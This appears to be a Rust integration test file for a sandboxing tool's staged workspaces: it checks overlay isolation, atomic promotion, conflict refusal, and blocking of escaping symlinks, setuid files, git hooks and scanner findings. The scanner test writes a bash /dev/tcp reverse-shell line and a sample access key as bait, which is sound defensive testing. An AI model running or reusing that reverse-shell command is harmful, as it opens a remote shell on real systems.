//! Staged workspaces through the real binary: `run --stage` keeps every
//! write in an overlay's upper layer (the host tree is never written), the
//! change set names each operation, `promote` applies exactly what was
//! chosen, atomically and under the promotion policy.
#![allow(clippy::unwrap_used, clippy::expect_used)]

mod common;

use std::collections::BTreeMap;
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};

use common::{cordon_bin, skip_unless, userns_available, Workdir};
use serde_json::Value;

/// One test's host tree and private state directory.
struct Fixture {
    work: Workdir,
    repo: PathBuf,
    state: tempfile::TempDir,
    /// Runs stage with the copy fallback (overlayfs turned off by the
    /// debug build's test switch).
    copy: bool,
}

impl Fixture {
    fn new() -> Fixture {
        let work = Workdir::new();
        let repo = work.path().join("repo");
        std::fs::create_dir(&repo).unwrap();
        let state = tempfile::Builder::new()
            .prefix("cordon-stage-state-")
            .tempdir()
            .unwrap();
        Fixture {
            work,
            repo,
            state,
            copy: false,
        }
    }

    /// A fixture whose runs use the copy fallback.
    fn copy() -> Fixture {
        Fixture {
            copy: true,
            ..Fixture::new()
        }
    }

    /// The environment of a staged run: its state directory, and the test
    /// switch that makes overlayfs unavailable for a copy fixture.
    fn env(&self, c: &mut Command) {
        c.env("XDG_STATE_HOME", self.state.path());
        if self.copy {
            c.env(common::DISABLE_LAYERS, "overlay");
        }
    }

    /// Staged runs in the store (its dot-files are the store's own).
    fn stages_left(&self) -> usize {
        std::fs::read_dir(self.state.path().join("cordon/stage"))
            .unwrap()
            .flatten()
            .filter(|e| !e.file_name().to_string_lossy().starts_with('.'))
            .count()
    }

    /// Whether what promotions and discards set aside was deleted by the
    /// background `cordon __reap-stages` (waits up to 10 s).
    fn reaped(&self) -> bool {
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(10);
        loop {
            let waiting = std::fs::read_dir(self.state.path().join("cordon/stage"))
                .unwrap()
                .flatten()
                .any(|e| e.file_name().to_string_lossy().starts_with(".reap-"));
            if !waiting {
                return true;
            }
            if std::time::Instant::now() > deadline {
                return false;
            }
            std::thread::sleep(std::time::Duration::from_millis(20));
        }
    }

    /// The report's staging mode is the fixture's.
    fn check_mode(&self, o: &common::Outcome) {
        if o.report["stage"].is_null() {
            return;
        }
        let want = if self.copy { "copy" } else { "overlay" };
        assert_eq!(o.report["stage"]["mode"], want, "{}", o.report);
        assert_eq!(
            o.report["stage"]["fallback"].is_string(),
            self.copy,
            "the report says why a run was staged as a copy: {}",
            o.report
        );
    }

    fn file(&self, rel: &str, text: &str, mode: u32) {
        let p = self.repo.join(rel);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, text).unwrap();
        std::fs::set_permissions(&p, std::fs::Permissions::from_mode(mode)).unwrap();
    }

    /// `cordon run --stage repo -- sh -c script` (run in the repo).
    fn staged(&self, script: &str) -> (common::Outcome, String) {
        let repo = self.repo.display().to_string();
        let script = format!("cd '{repo}' && {script}");
        // A host file changed within one tick of the kernel's coarse clock
        // before the run counts as changed during it (a conservative
        // conflict); the fixture's files are older than that.
        std::thread::sleep(std::time::Duration::from_millis(20));
        let o = self.work.run_with(
            &["--stage", &repo, "--no-audit"],
            &["sh", "-c", &script],
            |c| self.env(c),
        );
        self.check_mode(&o);
        let id = o.report["stage"]["run_id"]
            .as_str()
            .unwrap_or("")
            .to_owned();
        (o, id)
    }

    fn cordon(&self, args: &[&str]) -> std::process::Output {
        Command::new(cordon_bin())
            .args(args)
            .current_dir(self.work.path())
            .env("XDG_STATE_HOME", self.state.path())
            .stdin(Stdio::null())
            .output()
            .expect("run cordon")
    }

    /// `cordon promote ID ARGS...` (exit code, stderr).
    fn promote(&self, id: &str, args: &[&str]) -> (i32, String) {
        let mut all = vec!["promote", id];
        all.extend_from_slice(args);
        let out = self.cordon(&all);
        (
            out.status.code().unwrap_or(-1),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    }

    /// The audit store's `promotion` records.
    fn promotions(&self) -> Vec<Value> {
        let out = self.cordon(&["audit", "export"]);
        String::from_utf8_lossy(&out.stdout)
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .filter(|r| r["kind"] == "promotion")
            .collect()
    }

    fn changes(&self, id: &str) -> Value {
        let out = self.cordon(&["changes", id, "--json"]);
        assert!(
            out.status.success(),
            "changes: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        serde_json::from_slice(&out.stdout).unwrap()
    }
}

/// Every entry of a tree: kind, mode, and content or link target.
fn snapshot(root: &Path) -> BTreeMap<String, (u32, Vec<u8>)> {
    fn walk(root: &Path, dir: &Path, out: &mut BTreeMap<String, (u32, Vec<u8>)>) {
        let mut entries: Vec<_> = std::fs::read_dir(dir).unwrap().flatten().collect();
        entries.sort_by_key(|e| e.file_name());
        for e in entries {
            let p = e.path();
            let rel = p.strip_prefix(root).unwrap().display().to_string();
            let m = std::fs::symlink_metadata(&p).unwrap();
            let data = if m.file_type().is_symlink() {
                std::fs::read_link(&p)
                    .unwrap()
                    .into_os_string()
                    .into_encoded_bytes()
            } else if m.is_file() {
                std::fs::read(&p).unwrap()
            } else {
                Vec::new()
            };
            out.insert(rel, (m.mode(), data));
            if m.is_dir() {
                walk(root, &p, out);
            }
        }
    }
    let mut out = BTreeMap::new();
    walk(root, root, &mut out);
    out
}

/// Watches every directory of a tree for anything that writes to it.
struct Watch {
    fd: std::os::fd::OwnedFd,
}

impl Watch {
    fn new(root: &Path) -> Watch {
        use rustix::fs::inotify;
        let fd =
            inotify::init(inotify::CreateFlags::NONBLOCK | inotify::CreateFlags::CLOEXEC).unwrap();
        let mask = inotify::WatchFlags::MODIFY
            | inotify::WatchFlags::ATTRIB
            | inotify::WatchFlags::CLOSE_WRITE
            | inotify::WatchFlags::CREATE
            | inotify::WatchFlags::DELETE
            | inotify::WatchFlags::DELETE_SELF
            | inotify::WatchFlags::MOVED_FROM
            | inotify::WatchFlags::MOVED_TO
            | inotify::WatchFlags::MOVE_SELF;
        let mut dirs = vec![root.to_path_buf()];
        while let Some(d) = dirs.pop() {
            inotify::add_watch(&fd, &d, mask).unwrap();
            for e in std::fs::read_dir(&d).unwrap().flatten() {
                if e.file_type().unwrap().is_dir() {
                    dirs.push(e.path());
                }
            }
        }
        Watch { fd }
    }

    /// Events seen so far (0 when the tree was only read).
    fn events(&self) -> usize {
        let mut buf = [std::mem::MaybeUninit::<u8>::uninit(); 4096];
        let mut reader = rustix::fs::inotify::Reader::new(&self.fd, &mut buf);
        let mut n = 0;
        while let Ok(ev) = reader.next() {
            eprintln!("inotify: {:?} {:?}", ev.events(), ev.file_name());
            n += 1;
        }
        n
    }
}

fn entry<'a>(set: &'a Value, path: &str, op: &str) -> Option<&'a Value> {
    set["entries"]
        .as_array()
        .unwrap()
        .iter()
        .find(|e| e["path"] == path && e["op"] == op)
}

fn staging_available() -> bool {
    !skip_unless(userns_available(), "user namespaces are unavailable")
}

/// A staging test twice: over overlayfs (`$overlay`) and over the copy
/// fallback (`$copy`, forced by the test switch), with the same checks.
macro_rules! both_modes {
    ($body:ident, $overlay:ident, $copy:ident) => {
        #[test]
        fn $overlay() {
            if staging_available() {
                $body(Fixture::new());
            }
        }

        #[test]
        fn $copy() {
            if staging_available() {
                $body(Fixture::copy());
            }
        }
    };
}

/// Layer: the overlay's upper layer (jail/overlay.rs). A run that writes,
/// appends, deletes, renames (a file and a directory), chmods, symlinks and
/// replaces a directory leaves the host tree byte-identical (hashes of
/// every entry, and no inotify write event during the run), and the change
/// set names each operation. With the overlay replaced by a plain writable
/// bind (`--rw`), both checks fail.
fn staged_run_leaves_host_untouched_and_lists_every_op(f: Fixture) {
    f.file("edit.txt", "one\n", 0o644);
    f.file("gone.txt", "bye\n", 0o644);
    f.file("old-name.txt", "moving\n", 0o644);
    f.file("chmod.sh", "echo hi\n", 0o644);
    f.file("dir/inner.txt", "inside\n", 0o644);
    f.file("replaced/old.txt", "old\n", 0o644);
    let before = snapshot(&f.repo);
    let watch = Watch::new(&f.repo);
    let (o, id) = f.staged(
        "echo two >> edit.txt && rm gone.txt && mv old-name.txt new-name.txt && \
         chmod 755 chmod.sh && ln -s edit.txt link && mv dir dir2 && \
         rm -rf replaced && mkdir replaced && echo fresh > replaced/new.txt && \
         echo added > added.txt && cat edit.txt",
    );
    assert_eq!(o.code, 0, "stderr: {}", o.stderr);
    assert_eq!(
        o.stdout, "one\ntwo\n",
        "inside, the staged tree is the changed one"
    );
    assert_eq!(
        watch.events(),
        0,
        "the host tree was written during the run"
    );
    assert_eq!(snapshot(&f.repo), before, "the host tree changed");

    assert!(
        !id.is_empty(),
        "the report names the staged run: {}",
        o.report
    );
    assert!(
        o.stderr.contains(&format!("cordon changes {id}")),
        "stderr names the command that shows the changes: {}",
        o.stderr
    );
    let set = f.changes(&id);
    let modified = entry(&set, "edit.txt", "modified").expect("edit.txt modified");
    assert_eq!(modified["base"]["size"], 4);
    assert_eq!(modified["size"], 8);
    assert!(entry(&set, "gone.txt", "deleted").is_some(), "{set}");
    assert!(entry(&set, "old-name.txt", "deleted").is_some(), "{set}");
    assert!(entry(&set, "new-name.txt", "added").is_some(), "{set}");
    let mode = entry(&set, "chmod.sh", "mode").expect("chmod.sh mode-only change");
    assert_eq!(mode["mode"], 0o755);
    assert_eq!(mode["base"]["mode"], 0o644);
    let link = entry(&set, "link", "added").expect("link added");
    assert_eq!(link["kind"], "symlink");
    assert_eq!(link["link"], "edit.txt");
    assert!(entry(&set, "dir/inner.txt", "deleted").is_some(), "{set}");
    assert!(entry(&set, "dir", "deleted").is_some(), "{set}");
    assert!(entry(&set, "dir2/inner.txt", "added").is_some(), "{set}");
    // rm -rf + mkdir: an opaque directory hides the old contents.
    assert!(
        entry(&set, "replaced/old.txt", "deleted").is_some(),
        "{set}"
    );
    assert!(entry(&set, "replaced/new.txt", "added").is_some(), "{set}");
    assert!(
        entry(&set, "replaced", "deleted").is_none(),
        "the directory itself stays: {set}"
    );
    assert!(entry(&set, "added.txt", "added").is_some(), "{set}");
    assert_eq!(
        set["entries"].as_array().unwrap().len(),
        13,
        "nothing else is reported (copied-up files that did not change are not changes): {set}"
    );
    assert_eq!(o.report["stage"]["changes"], 13);
    assert_eq!(o.report["stage"]["hash"], set["hash"]);

    let diff = f.cordon(&["changes", &id, "--diff"]);
    let diff = String::from_utf8_lossy(&diff.stdout);
    assert!(
        diff.contains("--- a/edit.txt\n+++ b/edit.txt\n@@ -1 +1,2 @@\n one\n+two\n"),
        "{diff}"
    );
    assert!(diff.contains("old mode 644\nnew mode 755"), "{diff}");
    let listing = f.cordon(&["changes", &id]);
    let listing = String::from_utf8_lossy(&listing.stdout);
    assert!(listing.contains("M file    edit.txt"), "{listing}");
    assert!(listing.contains("C file    chmod.sh"), "{listing}");
    // Every staged run: its id, how long it has waited, where, what ran.
    let all = f.cordon(&["changes"]);
    let all = String::from_utf8_lossy(&all.stdout);
    let row = all.lines().find(|l| l.starts_with(&id)).unwrap_or_default();
    assert!(row.contains("s ago  ") || row.contains("m ago  "), "{all}");

    // discard: the stage is gone, the host tree still untouched.
    let out = f.cordon(&["discard", &id]);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let out = f.cordon(&["changes", &id]);
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr).contains("no staged run"));
    assert_eq!(f.stages_left(), 0);
    assert!(f.reaped(), "the discarded stage was deleted");
    assert_eq!(snapshot(&f.repo), before);
}

/// A run that writes nothing has an empty change set, and keeps no stage.
fn staged_run_without_writes_has_no_changes(f: Fixture) {
    f.file("a.txt", "a\n", 0o644);
    let (o, id) = f.staged("cat a.txt");
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(o.report["stage"]["changes"], 0);
    assert!(o.stderr.contains("no changes"), "{}", o.stderr);
    // Nothing to review: nothing is kept.
    assert_eq!(f.cordon(&["changes", &id]).status.code(), Some(125));
    // Set aside for the reaper (started once a few wait, or by promote
    // and discard).
    assert_eq!(f.stages_left(), 0);
}

/// The upper layer is private to its owner and outside the staged tree:
/// `--stage` of a directory that holds the stage store is refused.
#[test]
fn stage_store_inside_the_staged_tree_is_refused() {
    if !staging_available() {
        return;
    }
    let f = Fixture::new();
    let repo = f.repo.display().to_string();
    let o = f
        .work
        .run_with(&["--stage", &repo, "--no-audit"], &["true"], |c| {
            c.env("XDG_STATE_HOME", f.repo.join("state"));
        });
    assert_eq!(o.code, 125, "{}", o.stderr);
    assert!(o.stderr.contains("inside this directory"), "{}", o.stderr);
}

/// Layer: promotion selection (stage/promote.rs). Promoting named paths
/// applies exactly those entries (a named directory brings what is under
/// it), leaves every other host file as it was, keeps the rest staged, and
/// records the promotion with the change set's hash in the audit store.
fn promote_applies_exactly_the_chosen_paths(f: Fixture) {
    f.file("a.txt", "a\n", 0o644);
    f.file("b.txt", "b\n", 0o644);
    f.file("gone.txt", "gone\n", 0o644);
    f.file("keep.txt", "keep\n", 0o644);
    let (o, id) = f.staged(
        "echo A > a.txt && echo B > b.txt && rm gone.txt && rm keep.txt && \
         mkdir -p new/deep && echo n > new/deep/n.txt && echo c > c.txt",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    let before = snapshot(&f.repo);
    let repo = f.repo.display().to_string();
    let (code, err) = f.promote(
        &id,
        &[
            &format!("{repo}/a.txt"),
            &format!("{repo}/gone.txt"),
            &format!("{repo}/new"),
        ],
    );
    assert_eq!(code, 0, "{err}");
    let mut expected = before.clone();
    expected.get_mut("a.txt").unwrap().1 = b"A\n".to_vec();
    expected.remove("gone.txt");
    for (p, data) in [("new", ""), ("new/deep", ""), ("new/deep/n.txt", "n\n")] {
        let m = std::fs::symlink_metadata(f.repo.join(p)).unwrap();
        expected.insert(p.to_owned(), (m.mode(), data.as_bytes().to_vec()));
    }
    assert_eq!(
        snapshot(&f.repo),
        expected,
        "exactly the chosen entries changed"
    );
    assert_eq!(
        std::fs::read_to_string(f.repo.join("b.txt")).unwrap(),
        "b\n"
    );
    assert!(f.repo.join("keep.txt").exists() && !f.repo.join("c.txt").exists());

    let records = f.promotions();
    assert_eq!(records.len(), 1, "{records:?}");
    let body = &records[0]["body"];
    assert_eq!(body["change_set"], o.report["stage"]["hash"], "{body}");
    assert_eq!(records[0]["run_id"], id.as_str());
    let mut entries: Vec<&str> = body["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e.as_str().unwrap())
        .collect();
    entries.sort_unstable();
    assert_eq!(
        entries,
        [
            "added new",
            "added new/deep",
            "added new/deep/n.txt",
            "deleted gone.txt",
            "modified a.txt"
        ]
    );

    // The rest is still staged; promoting it empties and removes the stage.
    let left: Vec<String> = f.changes(&id)["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["path"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(left, ["b.txt", "c.txt", "keep.txt"]);
    let (code, err) = f.promote(&id, &[]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        std::fs::read_to_string(f.repo.join("b.txt")).unwrap(),
        "B\n"
    );
    assert_eq!(
        std::fs::read_to_string(f.repo.join("c.txt")).unwrap(),
        "c\n"
    );
    assert!(!f.repo.join("keep.txt").exists());
    assert!(
        f.cordon(&["changes", &id]).status.code() == Some(125),
        "the stage is gone"
    );
    assert_eq!(f.promotions().len(), 2);
    assert!(
        f.reaped(),
        "the emptied stage and the replaced files were deleted"
    );
    assert_eq!(f.stages_left(), 0);
}

/// Layer: the conflict check (stage/promote.rs `host_is`). A host file
/// changed after the run is never overwritten: the whole promotion is
/// refused (the other, clean entries are not applied either), and it
/// names the path.
fn promote_refuses_a_conflict_and_applies_nothing(f: Fixture) {
    f.file("a.txt", "a\n", 0o644);
    f.file("b.txt", "b\n", 0o644);
    let (o, id) = f.staged("echo staged > a.txt && echo clean > b.txt && echo n > n.txt");
    assert_eq!(o.code, 0, "{}", o.stderr);
    std::fs::write(f.repo.join("a.txt"), "edited on the host\n").unwrap();
    let before = snapshot(&f.repo);
    let (code, err) = f.promote(&id, &[]);
    assert_eq!(code, 125, "{err}");
    assert!(err.contains("a.txt") && err.contains("host"), "{err}");
    assert_eq!(
        snapshot(&f.repo),
        before,
        "all or nothing: nothing was applied"
    );
    assert!(f.promotions().is_empty());
    // Without the conflicting path, the rest goes through.
    let (code, err) = f.promote(&id, &["b.txt", "n.txt"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        std::fs::read_to_string(f.repo.join("a.txt")).unwrap(),
        "edited on the host\n"
    );
    assert_eq!(
        std::fs::read_to_string(f.repo.join("b.txt")).unwrap(),
        "clean\n"
    );

    // A file created on the host where the run added one is a conflict too.
    let (o, id) = f.staged("echo mine > late.txt");
    assert_eq!(o.code, 0, "{}", o.stderr);
    std::fs::write(f.repo.join("late.txt"), "host\n").unwrap();
    let (code, err) = f.promote(&id, &[]);
    assert_eq!(code, 125, "{err}");
    assert_eq!(
        std::fs::read_to_string(f.repo.join("late.txt")).unwrap(),
        "host\n"
    );
}

/// Layer: the change set's never-promoted entries (stage/capture.rs
/// `unsafe_reason`). A symlink out of the tree (absolute or with `..`), a
/// setuid/setgid file and a fifo (the only special file a workload can
/// create; a 0:0 device is read as a deletion) are listed but never
/// promoted, neither with everything nor by name; the host tree is
/// unchanged.
fn symlinks_out_of_the_tree_setuid_and_special_files_are_never_promoted(f: Fixture) {
    f.file("ok.txt", "ok\n", 0o644);
    f.file("sub/x", "x\n", 0o644);
    let (o, id) = f.staged(
        "ln -s /etc/passwd abs && ln -s ../../outside sub/up && ln -s sub/x inside && \
         echo s > suid && chmod 4755 suid && echo g > sgid && chmod 2755 sgid && mkfifo fifo && \
         ls -l suid sgid",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(
        o.stdout.contains("-rwsr-xr-x"),
        "inside, the bit is set: {}",
        o.stdout
    );
    let set = f.changes(&id);
    for p in ["abs", "sub/up", "suid", "sgid", "fifo"] {
        let e = set["entries"]
            .as_array()
            .unwrap()
            .iter()
            .find(|e| e["path"] == p)
            .unwrap_or_else(|| panic!("{p} in {set}"));
        assert!(e["unsafe_reason"].is_string(), "{e}");
    }
    let inside = entry(&set, "inside", "added").unwrap();
    assert!(
        inside.get("unsafe_reason").is_none(),
        "a symlink within the tree is fine: {inside}"
    );
    let before = snapshot(&f.repo);
    let (code, err) = f.promote(&id, &[]);
    assert_eq!(code, 125, "{err}");
    assert!(err.contains("never be promoted"), "{err}");
    for p in ["abs", "sub/up", "suid", "sgid", "fifo"] {
        let (code, err) = f.promote(&id, &[p, "--allow", "new-executable"]);
        assert_eq!(code, 125, "{p}: {err}");
    }
    assert_eq!(snapshot(&f.repo), before);
    let (code, err) = f.promote(&id, &["inside"]);
    assert_eq!(code, 0, "{err}");
    assert_eq!(
        std::fs::read_link(f.repo.join("inside")).unwrap(),
        Path::new("sub/x")
    );
}

/// Layer: `RESOLVE_BENEATH | RESOLVE_NO_SYMLINKS` on every host lookup
/// (stage/fsutil.rs). When a directory of the host tree is replaced by a
/// symlink to a place outside it after the run, promoting a file under it
/// fails and nothing is written through the link.
fn promotion_never_follows_a_host_symlink_out_of_the_tree(f: Fixture) {
    f.file("sub/inner/a.txt", "a\n", 0o644);
    let (o, id) = f.staged("echo planted > sub/inner/new.txt && echo changed > sub/inner/a.txt");
    assert_eq!(o.code, 0, "{}", o.stderr);
    let outside = f.work.path().join("outside");
    std::fs::create_dir_all(outside.join("inner")).unwrap();
    std::fs::write(outside.join("inner/a.txt"), "a\n").unwrap();
    std::fs::remove_dir_all(f.repo.join("sub")).unwrap();
    std::os::unix::fs::symlink(&outside, f.repo.join("sub")).unwrap();
    // `sub` is in the middle of each path: only the lookup flags stop the
    // walk through it (O_NOFOLLOW covers the last name only).
    let (code, err) = f.promote(&id, &["sub/inner/new.txt"]);
    assert_eq!(code, 125, "{err}");
    let (code, err) = f.promote(&id, &["sub/inner/a.txt"]);
    assert_eq!(code, 125, "{err}");
    assert!(
        !outside.join("inner/new.txt").exists(),
        "written through the symlink"
    );
    assert_eq!(
        std::fs::read_to_string(outside.join("inner/a.txt")).unwrap(),
        "a\n"
    );
}

/// Layer: the promotion policy (stage/policy.rs, rule git-hooks). A run
/// that writes a git hook gets it staged, but promotion refuses it with a
/// message naming the rule and the flag; `--allow git-hooks` promotes it.
fn policy_refuses_a_git_hooks_write(f: Fixture) {
    f.file(".git/hooks/README", "hooks\n", 0o644);
    f.file("src.txt", "src\n", 0o644);
    let (o, id) = f.staged(
        "printf '#!/bin/sh\\necho owned\\n' > .git/hooks/pre-commit && echo edit > src.txt",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(entry(&f.changes(&id), ".git/hooks/pre-commit", "added").is_some());
    let (code, err) = f.promote(&id, &[]);
    assert_eq!(code, 125, "{err}");
    assert!(
        err.contains(".git/hooks/pre-commit")
            && err.contains("git-hooks")
            && err.contains("--allow git-hooks"),
        "{err}"
    );
    assert!(!f.repo.join(".git/hooks/pre-commit").exists());
    assert_eq!(
        std::fs::read_to_string(f.repo.join("src.txt")).unwrap(),
        "src\n",
        "all or nothing"
    );
    let listing = f.cordon(&["changes", &id]);
    assert!(String::from_utf8_lossy(&listing.stdout).contains("[refused: git-hooks]"));
    let (code, err) = f.promote(&id, &["--allow", "git-hooks"]);
    assert_eq!(code, 0, "{err}");
    assert!(f.repo.join(".git/hooks/pre-commit").exists());
    let body = &f.promotions()[0]["body"];
    assert_eq!(
        body["allowed_rules"],
        serde_json::json!(["git-hooks"]),
        "{body}"
    );
}

impl Fixture {
    /// `cordon run --profile PROFILE --stage repo -- sh -c script`.
    fn staged_with_profile(&self, profile: &str, script: &str) -> (common::Outcome, String) {
        let path = self.work.write("stage-profile.toml", profile);
        let path = path.display().to_string();
        let repo = self.repo.display().to_string();
        let audit = self.state.path().join("cordon/audit.db");
        std::thread::sleep(std::time::Duration::from_millis(20));
        let o = self.work.run_with(
            &[
                "--profile",
                &path,
                "--stage",
                &repo,
                "--audit",
                audit.to_str().unwrap(),
            ],
            &["sh", "-c", &format!("cd '{repo}' && {script}")],
            |c| self.env(c),
        );
        self.check_mode(&o);
        let id = o.report["stage"]["run_id"]
            .as_str()
            .unwrap_or("")
            .to_owned();
        (o, id)
    }
}

/// Layer: the profile's `[stage]` rules. `auto` globs are promoted when the
/// run ends (and recorded), `refuse` globs are held back naming the rule,
/// everything else waits for `promote`.
fn profile_stage_rules_auto_promote_and_refuse(f: Fixture) {
    f.file("docs/old.md", "old\n", 0o644);
    let (o, id) = f.staged_with_profile(
        "[stage]\nauto = [\"docs/*.md\"]\nrefuse = [\"private/**\"]\n",
        "echo new > docs/new.md && mkdir private && echo k > private/key && echo o > other.txt",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        o.report["stage"]["auto_promoted"], 1,
        "{}",
        o.report["stage"]
    );
    assert_eq!(
        std::fs::read_to_string(f.repo.join("docs/new.md")).unwrap(),
        "new\n"
    );
    assert!(!f.repo.join("other.txt").exists() && !f.repo.join("private").exists());
    assert!(o.stderr.contains("promoted to"), "{}", o.stderr);
    let records = f.promotions();
    assert_eq!(records.len(), 1);
    assert_eq!(
        records[0]["body"]["entries"],
        serde_json::json!(["added docs/new.md"])
    );

    let listing = f.cordon(&["changes", &id]);
    let listing = String::from_utf8_lossy(&listing.stdout);
    assert!(
        listing.contains("private/key  ") && listing.contains("[refused: profile-refuse]"),
        "{listing}"
    );
    assert!(!listing.contains("docs/new.md"), "{listing}");
    let (code, err) = f.promote(&id, &[]);
    assert_eq!(code, 125);
    assert!(err.contains("--allow profile-refuse"), "{err}");
    let (code, err) = f.promote(&id, &["other.txt"]);
    assert_eq!(code, 0, "{err}");
    assert!(f.repo.join("other.txt").exists());
}

/// Bounded: a run whose staged changes pass `[stage] max_size` is discarded
/// when it ends (the host tree untouched), and staged runs older than
/// `keep` are removed when the next one starts.
fn staged_changes_are_bounded_by_size_and_age(f: Fixture) {
    f.file("a.txt", "a\n", 0o644);
    let before = snapshot(&f.repo);
    // Four files under the cap each, over it together: discarded when the
    // run ends, or stopped by the watch if a check came in between.
    let (o, id) = f.staged_with_profile(
        "[stage]\nmax_size = \"64KiB\"\n",
        "for i in 1 2 3 4; do head -c 30000 /dev/zero > big$i.bin; done",
    );
    if o.code == 125 {
        assert!(o.stderr.contains("stopped"), "{}", o.stderr);
    } else {
        assert_eq!(o.code, 0, "{}", o.stderr);
        assert!(
            o.report["stage"]["discarded"]
                .as_str()
                .unwrap_or("")
                .contains("over the cap"),
            "{}",
            o.report
        );
        assert!(o.stderr.contains("discarded"), "{}", o.stderr);
        assert_eq!(f.cordon(&["changes", &id]).status.code(), Some(125));
    }
    assert_eq!(f.stages_left(), 0);
    assert_eq!(snapshot(&f.repo), before);

    let (o, old) = f.staged("echo x > b.txt");
    assert_eq!(o.code, 0, "{}", o.stderr);
    let meta = f
        .state
        .path()
        .join("cordon/stage")
        .join(&old)
        .join("meta.json");
    let mut m: Value = serde_json::from_slice(&std::fs::read(&meta).unwrap()).unwrap();
    m["created_unix"] = Value::from(1_000_000u64);
    std::fs::write(&meta, m.to_string()).unwrap();
    let (o, _) = f.staged_with_profile("[stage]\nkeep = \"1h\"\n", "true");
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(
        f.cordon(&["changes", &old]).status.code(),
        Some(125),
        "the old stage was removed"
    );
}

/// Layer: the promotion's `scanner` rule (cordon-codescan's rules and the
/// secret formats of cordon-scan). A staged reverse shell and a file
/// holding an access key are held back naming the rule; a plain file
/// passes; `--allow scanner` promotes them.
#[test]
fn scanner_findings_hold_files_back() {
    if !staging_available() {
        return;
    }
    let f = Fixture::new();
    let (o, id) = f.staged(
        "echo 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1' > connect.sh && \
         echo 'key = \"AKIAQWERTYUIOPASDFGH\"' > settings.toml && echo 'print(1)' > ok.py",
    );
    assert_eq!(o.code, 0, "{}", o.stderr);
    let (code, err) = f.promote(&id, &[]);
    assert_eq!(code, 125, "{err}");
    assert!(
        err.contains("connect.sh") && err.contains("settings.toml"),
        "{err}"
    );
    assert!(
        err.contains("--allow scanner") && !err.contains("ok.py"),
        "{err}"
    );
    let (code, err) = f.promote(&id, &["ok.py"]);
    assert_eq!(code, 0, "{err}");
    assert!(!f.repo.join("connect.sh").exists());
    let (code, err) = f.promote(&id, &["--allow", "scanner"]);
    assert_eq!(code, 0, "{err}");
    assert!(f.repo.join("connect.sh").exists() && f.repo.join("settings.toml").exists());
}

both_modes!(
    staged_run_leaves_host_untouched_and_lists_every_op,
    staged_run_leaves_host_untouched_and_lists_every_op_overlay,
    copy_fallback_leaves_host_untouched_and_lists_every_op
);

both_modes!(
    staged_run_without_writes_has_no_changes,
    staged_run_without_writes_has_no_changes_overlay,
    copy_fallback_without_writes_has_no_changes
);

both_modes!(
    promote_applies_exactly_the_chosen_paths,
    promote_applies_exactly_the_chosen_paths_overlay,
    copy_fallback_promote_applies_exactly_the_chosen_paths
);

both_modes!(
    promote_refuses_a_conflict_and_applies_nothing,
    promote_refuses_a_conflict_and_applies_nothing_overlay,
    copy_fallback_promote_refuses_a_conflict
);

both_modes!(
    symlinks_out_of_the_tree_setuid_and_special_files_are_never_promoted,
    symlinks_out_of_the_tree_setuid_and_special_files_are_never_promoted_overlay,
    copy_fallback_never_promotes_escaping_symlinks_setuid_or_special_files
);

both_modes!(
    promotion_never_follows_a_host_symlink_out_of_the_tree,
    promotion_never_follows_a_host_symlink_out_of_the_tree_overlay,
    copy_fallback_promotion_never_follows_a_host_symlink
);

both_modes!(
    policy_refuses_a_git_hooks_write,
    policy_refuses_a_git_hooks_write_overlay,
    copy_fallback_policy_refuses_a_git_hooks_write
);

both_modes!(
    profile_stage_rules_auto_promote_and_refuse,
    profile_stage_rules_auto_promote_and_refuse_overlay,
    copy_fallback_profile_stage_rules
);

both_modes!(
    staged_changes_are_bounded_by_size_and_age,
    staged_changes_are_bounded_by_size_and_age_overlay,
    copy_fallback_bounded_by_size_and_age
);

/// The copy fallback keeps the size cap before the run: a tree larger than
/// `[stage] max_size` is not copied, the run is refused before anything
/// starts (exit 125, naming the cap and the way out), nothing is left in
/// the store and the host tree is untouched.
#[test]
fn copy_fallback_refuses_a_tree_over_the_size_cap() {
    if !staging_available() {
        return;
    }
    let f = Fixture::copy();
    f.file("big.bin", &"x".repeat(100_000), 0o644);
    let before = snapshot(&f.repo);
    let (o, _) = f.staged_with_profile("[stage]\nmax_size = \"64KiB\"\n", "echo ran > ran.txt");
    assert_eq!(o.code, 125, "{}", o.stderr);
    assert!(
        o.stderr.contains("copy fallback is refused") && o.stderr.contains("max_size"),
        "{}",
        o.stderr
    );
    assert!(!o.stdout.contains("ran"), "the command never ran");
    assert_eq!(f.stages_left(), 0);
    assert_eq!(snapshot(&f.repo), before);
}

/// The copy fallback copies a symlink as a symlink: a link in the tree to
/// a directory outside it is not followed into the copy (nothing outside
/// the tree is copied or becomes writable), and the run sees the link.
#[test]
fn copy_fallback_copies_symlinks_without_following_them() {
    if !staging_available() {
        return;
    }
    let f = Fixture::copy();
    let outside = f.work.path().join("outside");
    std::fs::create_dir(&outside).unwrap();
    std::fs::write(outside.join("secret.txt"), "s\n").unwrap();
    std::os::unix::fs::symlink(&outside, f.repo.join("out")).unwrap();
    f.file("a.txt", "a\n", 0o644);
    let (o, id) = f.staged("readlink out; echo x > a.txt; ls -A");
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(
        o.stdout.starts_with(&format!("{}\n", outside.display())),
        "{}",
        o.stdout
    );
    let upper = f.state.path().join("cordon/stage").join(&id).join("upper");
    assert!(std::fs::symlink_metadata(upper.join("out"))
        .unwrap()
        .file_type()
